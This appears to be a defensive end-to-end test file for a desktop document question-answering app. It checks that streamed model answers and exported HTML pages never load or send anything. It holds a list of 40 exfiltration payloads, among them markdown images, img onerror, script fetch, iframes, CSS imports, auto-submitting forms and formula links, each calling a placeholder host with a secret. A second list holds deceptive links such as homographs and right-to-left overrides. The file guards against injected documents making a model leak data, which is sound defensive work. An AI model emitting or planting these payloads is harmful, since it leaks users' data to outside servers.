/**
 * What a document could make a model write to get words out of the window: pictures, links, forms and styles in every spelling, streamed as
 * answers are, one character at a time. Nothing may be asked for, and no link may be followed that a person has not seen in full.
 */
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { afterAll, beforeAll, expect, test } from "vitest";
import { exportConversation } from "../../main/library/export.ts";
import type { CacheReport, Turn } from "../../preload/api.ts";
import { fakeApp } from "../unit/host/fake-app.ts";
import { openTestWindow, type TestWindow } from "./window.ts";

/** HOST is a server of ours, which counts; SECRET is what should get out. */
const payloads = [
  "![](http://HOST/inline?SECRET)",
  '![x](http://HOST/title?SECRET "title")',
  "![x](<http://HOST/angle?SECRET>)",
  "![x][1]\n\n[1]: http://HOST/reference?SECRET",
  "![HOST]\n\n[HOST]: http://HOST/shortcut?SECRET",
  "[![x](http://HOST/nested?SECRET)](http://HOST/around?SECRET)",
  "![x](//HOST/relative?SECRET)",
  "![x](..//HOST/dots?SECRET)",
  "![x](/\\\\HOST/backslash?SECRET)",
  "![x](http:HOST/noslash?SECRET)",
  "![x](&#104;ttp://HOST/entity?SECRET)",
  "![x](http&colon;//HOST/colon?SECRET)",
  "![x](HTTP://HOST/case?SECRET)",
  "![x](data:text/html,<img src=http://HOST/data?SECRET>)",
  "![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='http://HOST/svgdata?SECRET'/></svg>)",
  "![x](javascript:fetch('http://HOST/javascript?SECRET'))",
  "![x](blob:http://HOST/blob?SECRET)",
  "![x](ftp://HOST/ftp?SECRET)",
  '<img src="http://HOST/html?SECRET">',
  "<img src=x onerror=\"fetch('http://HOST/onerror?SECRET')\">",
  '<picture><source srcset="http://HOST/source?SECRET"><img></picture>',
  '<svg><image href="http://HOST/svg?SECRET"/></svg>',
  "<svg onload=\"fetch('http://HOST/onload?SECRET')\"></svg>",
  '<iframe src="http://HOST/frame?SECRET"></iframe>',
  '<iframe srcdoc="<img src=http://HOST/srcdoc?SECRET>"></iframe>',
  '<object data="http://HOST/object?SECRET"></object>',
  '<video src="http://HOST/video?SECRET" autoplay></video>',
  '<link rel="stylesheet" href="http://HOST/sheet?SECRET">',
  '<link rel="dns-prefetch" href="http://SECRET.HOST/">',
  "<style>@import 'http://HOST/import?SECRET';</style>",
  '<p style="background:url(http://HOST/style?SECRET)">x</p>',
  "<script>fetch('http://HOST/script?SECRET')</script>",
  '<form action="http://HOST/form?SECRET"><input autofocus onfocus="this.form.submit()"></form>',
  '<base href="http://HOST/base/"><meta http-equiv="refresh" content="0;url=http://HOST/refresh?SECRET">',
  "$$\\includegraphics{http://HOST/formula?SECRET}$$",
  "$$\\href{javascript:fetch('http://HOST/href?SECRET')}{x} \\url{http://HOST/url?SECRET}$$",
  '$$\\htmlStyle{background:url("http://HOST/htmlstyle?SECRET")}{x}$$',
  '```html\n<img src="http://HOST/code?SECRET">\n```',
  "```mermaid\ngraph TD; A[<img src=http://HOST/mermaid?SECRET>]\n```",
  "| a |\n|---|\n| ![x](http://HOST/table?SECRET) |",
];

/** What a link says, and the whole of where it leads. */
const links = [
  ["[http://bank.example](http://HOST/other)", "http://HOST/other"],
  ["http://HOST/bare", "http://HOST/bare"],
  ["<http://HOST/autolink>", "http://HOST/autolink"],
  ["[x](http://user@HOST/user)", "http://user@HOST/user"],
  ["[x](https://b\u0430nk.example/homograph)", "https://xn--bnk-6cd.example/homograph"],
  ["[x](https://bank.example/\u202egnp.exe)", "https://bank.example/%E2%80%AEgnp.exe"],
  ["[x](mailto:a@HOST?body=SECRET)", "mailto:a@HOST?body=SECRET"],
  ["[x](//HOST/relative)", "//HOST/relative"],
] as const;

const fake = fakeApp();
/** Every request that reached our server. */
const reached: string[] = [];
let server: Server;
let place: string;
let window: TestWindow;

beforeAll(async () => {
  server = createServer((request, response) => {
    reached.push(request.url ?? "");
    response.end();
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  place = `127.0.0.1:${(server.address() as AddressInfo).port}`;
  fake.state.engine = { phase: "idle" };
  const document = { id: "d", name: "Orders.txt", fileBytes: 9, folder: "", addedAt: 0, phase: "ready" as const };
  fake.state.documents = [{ ...document, pages: 1, characters: 9, tokens: 3, emptyPages: [], recognised: [], pins: [], notes: [] }];
  fake.state.conversation = { id: "c", documentIds: ["d"], extent: { kind: "whole" }, turns: [] };
  window = await openTestWindow(fake.app);
  await window.page.getByLabel("Question", { exact: true }).waitFor();
});
afterAll(async () => {
  await window?.close();
  server?.close();
});

const filled = (text: string) => text.replaceAll("HOST", place).replaceAll("SECRET", "secret");

/** Streams an answer into the window, and ends it. */
async function stream(id: string, answer: string): Promise<void> {
  const question = `Question ${id}`;
  fake.emit("turn", { id, question, answer: "", phase: "answering" });
  for (const char of answer) {
    fake.emit("answer", { turnId: id, text: char });
    await new Promise((resolve) => setTimeout(resolve, 1));
  }
  fake.emit("turn", { id, question, answer, phase: "failed", error: { code: "stopped", text: "Stopped." } });
  await window.page.locator(`#turn-${id}[data-phase=failed]`).waitFor();
}

test("40 answers that try to load or send something, character by character: nothing is asked for", async () => {
  expect(payloads).toHaveLength(40);
  for (const [i, payload] of payloads.entries()) await stream(`p${i}`, `Look. ${filled(payload)}\n\nThe end of it.`);
  // What is set after a moment (colours, formulas) has been set, and what would be fetched late has been fetched.
  await window.page.waitForTimeout(1500);
  expect(await window.page.locator(".turn").count()).toBe(40);
  await expect.poll(() => window.page.getByText("The end of it.").count()).toBe(40);
  const dangerous = ".answer :is(img, picture, iframe, object, embed, video, audio, link, style, script, form, base, meta, input, a[href])";
  expect(await window.page.locator(dangerous).count()).toBe(0);
  expect(reached).toEqual([]);
  expect(window.strays).toEqual([]);
  expect(window.complaints).toEqual([]);
});

test("a link is followed by nobody but a person, who sees all of it as the browser will", async () => {
  const { page } = window;
  for (const [i, [markdown, target]] of links.entries()) {
    await stream(`l${i}`, filled(markdown));
    await page.locator(`#turn-l${i} .answer button.link`).click();
    const dialog = page.getByRole("dialog");
    expect(await dialog.locator(".target").textContent()).toBe(filled(target));
    await page.keyboard.press("Escape");
    await dialog.waitFor({ state: "detached" });
  }
  expect(reached).toEqual([]);
  expect(window.strays).toEqual([]);
  expect(page.context().pages()).toHaveLength(1);
});

test.each([
  ["with its policy", (page: string) => page],
  ["even without its policy", (page: string) => page.replace(/<meta http-equiv="Content-Security-Policy".*>/, "")],
])("a page that was saved with all these answers asks for nothing, %s", async (_, changed) => {
  const all = [...payloads, ...links.map(([markdown]) => markdown), "| a | b |\n|---|--:|\n| **1** | $x^2$ |"].map(filled);
  const turns = all.map(
    (answer, i): Turn => ({ id: `s${i}`, question: "?", answer, phase: "failed", error: { code: "stopped", text: "Stopped." } }),
  );
  const info = {
    id: "c",
    title: "All",
    documentIds: ["d"],
    documentNames: ["Orders.txt"],
    turns: 1,
    branchOf: null,
    createdAt: 0,
    changedAt: 0,
  };
  const { text } = await exportConversation(info, { id: "c", documentIds: ["d"], extent: { kind: "whole" }, turns }, "html", "en");
  const folder = await mkdtemp(join(tmpdir(), "folio-saved-"));
  const file = join(folder, "All.html");
  await writeFile(file, changed(text));
  const page = await window.browser.newPage();
  const asked: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  await page.goto(pathToFileURL(file).href);
  await page.waitForTimeout(500);
  expect(asked).toEqual([pathToFileURL(file).href]);
  expect(reached).toEqual([]);
  expect(await page.locator("section").count()).toBe(all.length);
  expect(await page.locator(".answer td strong, .answer td math").count()).toBe(2);
  const led = await page.locator(".answer a").evaluateAll((found) => found.map((link) => (link as unknown as { href: string }).href));
  expect(led.filter((href) => !/^(https?|mailto):/.test(href))).toEqual([]);
  expect(await page.locator("body").textContent()).toContain("(https://xn--bnk-6cd.example/homograph)");
  const dangerous = ":is(img, picture, image, iframe, object, embed, video, audio, link, script, form, base, input, body style)";
  expect(await page.locator(dangerous).count()).toBe(0);
  await page.close();
  await rm(folder, { recursive: true });
});

test("a paragraph that would take long to parse is shown as it was written, and what stands around it as ever", async () => {
  const tangle = `**So** ${"](".repeat(1100)}`;
  await stream("tangle", `*Before.*\n\n${tangle}\n\n*After.*`);
  const answer = window.page.locator("#turn-tangle .answer");
  expect(await answer.locator(".as-written").allTextContents()).toEqual([`${tangle}\n`]);
  expect(await answer.locator("em").allTextContents()).toEqual(["Before.", "After."]);
  expect(await answer.locator("strong").count()).toBe(0);
});

// The last one: what broke is complained of.
test("an answer that cannot be drawn is shown as it was written, and the window stays", async () => {
  const { page } = window;
  await stream("whole", "Before.");
  const told = { id: "broken", question: "?", answer: "**As** it was written.", phase: "done" as const, stopReason: "end" as const };
  const counted = { promptTokens: 9, answerTokens: 5, evidence: [], notice: null };
  const cache: CacheReport = {
    ...{ policy: "phrase", mode: "fast", budgetTokens: 4, fullBytes: 100, readingBytes: 100, answeringBytes: 10 },
    ...{ peakBytes: 110, computeBytes: 1, protectedTokens: 5, keptPerLayer: [4, 4], openingTokens: 5 },
  };
  const timing = { readMs: 1, restoreMs: 0, questionMs: 1, selectMs: 1, gatherMs: 1, firstTokenMs: 3, decodeTokensPerSecond: 50 };
  // No turn of ours has such quotes; whatever else cannot be drawn ends in the same way.
  fake.emit("turn", { ...told, ...counted, cache, timing, quotes: [null as never] });
  await page.locator("#turn-broken").getByText("**As** it was written.").waitFor();
  await stream("after", "*After.*");
  expect(await page.locator("#turn-after .answer em").textContent()).toBe("After.");
  expect(await page.locator("#turn-whole .answer").textContent()).toBe("Before.");
});
